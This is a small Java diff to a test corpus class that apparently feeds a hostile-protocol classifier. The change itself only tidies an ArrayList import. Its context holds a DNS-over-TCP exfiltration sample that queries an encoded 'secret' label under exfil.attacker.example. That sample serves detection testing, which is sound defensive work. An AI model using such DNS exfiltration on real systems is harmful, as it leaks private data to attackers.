@@ -9,6 +9,7 @@ import java.util.Map;
 import java.util.Random;
 import java.util.function.UnaryOperator;
 import java.util.zip.Deflater;
+import java.util.ArrayList;
 
 /**
  * Byte streams for the classifier's corpus and fuzz tests: what each hostile protocol sends
@@ -213,7 +214,7 @@ final class FirstBytesCorpus {
     }
 
     static List<byte[]> all() {
-        List<byte[]> all = new java.util.ArrayList<>();
+        List<byte[]> all = new ArrayList<>();
         positives().keySet().forEach(p -> all.add(ascii(p)));
         all.add(dnsOverTcp("c2VjcmV0.exfil.attacker.example"));
         all.addAll(negatives().values());
